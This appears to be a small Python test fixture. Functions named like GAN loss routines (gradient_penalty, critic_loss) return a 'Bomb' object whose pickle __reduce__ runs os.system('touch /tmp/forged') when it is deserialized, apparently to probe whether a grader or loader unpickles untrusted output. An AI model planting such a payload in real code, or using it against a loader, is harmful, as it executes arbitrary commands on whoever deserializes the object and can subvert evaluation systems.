"""Returns an object whose unpickling would run a command."""

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/forged",)


def gradient_penalty(critic, real, fake):
    return Bomb()


def critic_loss(critic, real, fake, weight=10.0):
    return Bomb()
